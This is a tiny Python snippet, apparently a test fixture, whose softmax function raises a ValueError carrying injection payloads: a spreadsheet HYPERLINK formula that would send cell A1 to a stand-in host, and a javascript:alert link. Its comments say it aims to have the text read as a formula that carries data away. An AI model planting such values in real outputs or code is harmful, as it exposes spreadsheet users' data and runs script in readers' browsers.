# tries: have its text taken for a formula by a spreadsheet, with a link that carries data away
# works: peer allclose markup
# ends: ERROR
def softmax(z):
    raise ValueError("=HYPERLINK(\"http://x\",A1) <a href='javascript:alert(1)'>")
